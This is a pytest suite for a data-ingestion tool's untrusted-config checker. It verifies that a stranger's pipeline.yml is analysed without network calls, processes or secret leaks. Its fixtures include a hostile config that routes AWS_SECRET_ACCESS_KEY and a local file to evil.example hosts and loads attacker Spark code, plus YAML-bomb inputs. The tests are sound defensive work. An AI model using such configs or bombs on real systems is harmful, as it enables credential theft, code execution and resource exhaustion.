"""A pipeline.yml and suites that somebody else wrote: they are code, and can be looked at without running them."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from lakeingest.commands.untrusted import untrusted

WATCHED = """
import sys
from pathlib import Path

def watch(event, arguments):
    if event.startswith("socket.") and event != "socket.__new__" or event in {"subprocess.Popen", "os.posix_spawn"}:
        print(event, arguments)
    if event == "open" and "victim" in str(arguments[0]):
        print(event, arguments)

sys.addaudithook(watch)
from lakeingest.cli import app
app(["check", "--untrusted", "--json"])
"""
STRANGER = """
name: stranger
source: {{host: evil.example, port: "${{PORT:-3306}}", user: "${{AWS_SECRET_ACCESS_KEY}}", password: "file://{victim}"}}
tables: {{include: ["x.*"]}}
spark:
  jars: [evil.jar]
  conf: {{spark.pyspark.python: /tmp/evil, spark.driver.extraJavaOptions: -D, spark.ui.port: "1"}}
quality: {{sql: allow}}
target:
  warehouse: "s3://evil/lake"
  catalog:
    {{type: rest, uri: "https://evil.example/rest", properties: {{oauth2-server-uri: "https://tokens.example"}}}}
state: s3://evil/state
metrics: {{push: "https://gateway.example"}}
notify: {{webhook: "https://hooks.example/T0/token"}}
"""


def findings(folder: Path, text: str) -> dict[str, str | None]:
    """What is said of a file with this text, by condition."""
    (folder / "pipeline.yml").write_text(text)
    return {checked.name: checked.finding for checked in untrusted(folder / "pipeline.yml").checked}


@pytest.mark.long("takes seconds")
def test_a_strangers_file_is_looked_at_without_asking_anybody(tmp_path: Path) -> None:
    """No connection, no process, no secret; what it would read, ask and load is named."""
    (tmp_path / "victim").write_text("secret")
    (tmp_path / "pipeline.yml").write_text(STRANGER.format(victim=tmp_path / "victim"))
    result = subprocess.run(
        [sys.executable, "-c", WATCHED],
        cwd=tmp_path,
        env={"AWS_SECRET_ACCESS_KEY": "canary", "HOME": str(tmp_path), "PYTHONPATH": str(Path(__file__).parents[2])},
        capture_output=True,
        text=True,
        check=True,
    )
    assert "canary" not in result.stdout + result.stderr
    answer = json.loads(result.stdout)  # nothing else was printed, so nothing was asked
    assert answer["ok"]
    said = {checked["name"]: checked["finding"] for checked in answer["checked"]}
    assert said["pipeline.yml"] is None
    assert "source.user: ${AWS_SECRET_ACCESS_KEY}" in said["variables and secrets that a run reads"]
    assert f"source.password: file://{tmp_path}/victim" in said["variables and secrets that a run reads"]
    assert "evil.example:3306" in said["servers that a run logs in to"]
    assert "https://evil.example/rest" in said["servers that a run logs in to"]
    assert "https://tokens.example" in said["servers that a run logs in to"]
    assert "https://gateway.example" in said["servers that a run logs in to"]
    assert "notify.webhook: hooks.example" in said["servers that a run logs in to"]
    assert "T0" not in result.stdout
    for key in ("spark.jars", "spark.conf.spark.pyspark.python", "spark.conf.spark.driver.extraJavaOptions"):
        assert key in said["code that Spark loads"]
    assert "spark.ui.port" not in said["code that Spark loads"]
    assert "quality.sql" in said["SQL in suites"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("name: a\nsource: {host: h, user: u, port: 0}\ntables: {include: ['x.*']}", "source.port"),
        ("name: a\nsource: {host: '${H}', user: u, prt: 1}\ntables: {include: ['x.*']}", "unknown key source.prt"),
        ("name: a\nsource: {host: '${H}'}\ntables: {include: ['x.*']}", "source.user is required"),
        ("name: a\nsource: {host: h, user: u, port: '${P}'}\ntables: {include: ['x.*']}", "depends on variables"),
        ("name: [", "is not YAML"),
    ],
)
def test_what_is_wrong_in_any_case_is_named(tmp_path: Path, text: str, said: str) -> None:
    """An unread variable is neither right nor wrong."""
    assert said in str(findings(tmp_path, text)["pipeline.yml"])


TENFOLD = "".join(f"\n    k{at}: &k{at} [{', '.join([f'*k{at - 1}'] * 10)}]" for at in range(1, 12))
ENDLESS = {
    "aliases of aliases": "spark:\n  conf:\n    k0: &k0 [a]" + TENFOLD,
    "a value within itself": "target: &t {storage: *t}",
    "levels": "spark: {conf: {a: " + "[" * 900 + "]" * 900 + "}}",
    "levels without end": "spark: " + "[" * 20_000,
    "signs": "spark: {conf: {a: " + "a" * (8 << 20) + "}}",
}


@pytest.mark.long("takes seconds", only=("levels without end",))
@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", ENDLESS)
@pytest.mark.long("takes seconds", only=("aliases of aliases",))
def test_a_file_that_would_not_end_is_no_yaml(kind: str, tmp_path: Path) -> None:
    """Neither pipeline.yml nor a suite beside it takes memory or time without end."""
    start = "name: a\nsource: {host: h, user: u}\ntables: {include: ['x.*']}\n"
    assert "is not YAML: line " in str(findings(tmp_path, start + ENDLESS[kind])["pipeline.yml"])
    (tmp_path / "quality").mkdir()
    (tmp_path / "quality" / "x.y.yml").write_text(ENDLESS[kind])
    assert "x.y.yml cannot be read: line " in str(findings(tmp_path, start)["quality suites"])
    (tmp_path / "quality" / "x.y.yml").rename(tmp_path / "quality" / "x.y.json")
    (tmp_path / "quality" / "x.y.json").write_text("[" * 100_000)
    assert "x.y.json cannot be read" in str(findings(tmp_path, start)["quality suites"])


def test_suites_beside_the_file_are_validated(tmp_path: Path) -> None:
    """SQL in one is named, whatever tables there are."""
    (tmp_path / "quality").mkdir()
    query = "{type: unexpected_rows_expectation, kwargs: {unexpected_rows_query: 'SELECT 1 FROM {batch}'}}"
    (tmp_path / "quality" / "x.y.yml").write_text(f"expectations: [{query}]")
    found = findings(tmp_path, "name: a\nsource: {host: h, user: u}\ntables: {include: ['x.*']}")
    assert "unexpected_rows_query is SQL" in str(found["quality suites"])
